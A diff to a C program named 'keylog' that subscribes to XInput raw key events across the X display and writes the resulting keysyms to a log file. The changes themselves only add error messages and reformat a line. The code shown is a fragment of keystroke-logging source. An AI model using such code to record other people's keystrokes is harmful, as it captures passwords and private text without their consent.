@@ -10,7 +10,10 @@ int main(int argc, char **argv) {
   FILE *out = argc == 2 ? fopen(argv[1], "w") : NULL;
   Display *display = XOpenDisplay(NULL);
   int opcode, event, error;
-  if (!out || !display || !XQueryExtension(display, "XInputExtension", &opcode, &event, &error)) return 1;
+  if (!out || !display || !XQueryExtension(display, "XInputExtension", &opcode, &event, &error)) {
+    fprintf(stderr, "keylog: %s\n", !out ? "cannot write the log" : !display ? "cannot open the display" : "no XInput");
+    return 1;
+  }
   unsigned char bits[XIMaskLen(XI_LASTEVENT)] = {0};
   XISetMask(bits, XI_RawKeyPress);
   XISetMask(bits, XI_RawKeyRelease);
@@ -21,7 +24,8 @@ int main(int argc, char **argv) {
   fflush(out);
   for (XEvent e;; fflush(out)) {
     XNextEvent(display, &e);
-    if (e.xcookie.type != GenericEvent || e.xcookie.extension != opcode || !XGetEventData(display, &e.xcookie)) continue;
+    if (e.xcookie.type != GenericEvent || e.xcookie.extension != opcode || !XGetEventData(display, &e.xcookie))
+      continue;
     const XIRawEvent *raw = e.xcookie.data;
     int perKeycode = 0;
     KeySym *syms = XGetKeyboardMapping(display, (KeyCode)raw->detail, 1, &perKeycode);
